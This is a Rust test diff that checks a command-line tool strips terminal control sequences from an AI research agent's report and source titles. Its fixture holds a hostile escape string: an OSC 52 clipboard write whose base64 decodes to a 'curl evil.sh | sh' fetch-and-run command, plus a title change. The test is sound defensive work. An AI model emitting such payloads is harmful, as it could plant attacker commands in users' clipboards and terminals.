@@ -420,3 +420,33 @@ fn a_stopped_command_cancels_its_run_at_google() {
         "nothing is left at Google"
     );
 }
+
+/// The agent's report and the titles of its sources are Google's text: terminal controls in
+/// them (OSC 52 clipboard writes, a title change, a C1 CSI) are made inert where the command
+/// line prints them, as every answer's are.
+#[test]
+fn terminal_controls_in_a_report_and_its_sources_are_made_inert() {
+    let env = Env::new();
+    let url = env.fake.base_url();
+    let hostile = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{9b}8m";
+    env.fake.push(
+        Script::text(format!("REPORT {hostile} done"))
+            .sources(&[("https://example.org/a", &format!("evil {hostile} title"))])
+            .delay_headers(Duration::from_millis(100)),
+    );
+    let out = crate::support::mcp::std_command(env.dir.path(), &env.vars(&url, &[]))
+        .args(["research", "which crate?"])
+        .output()
+        .unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert!(out.status.success(), "{stderr}");
+    assert!(stdout.contains("REPORT"), "{stdout}");
+    assert!(stdout.contains("https://example.org/a"), "{stdout}");
+    for text in [&stdout, &stderr] {
+        assert!(!text.contains("\u{1b}]"), "{text:?}");
+        assert!(!text.contains(['\u{7}', '\u{9b}']), "{text:?}");
+    }
+}
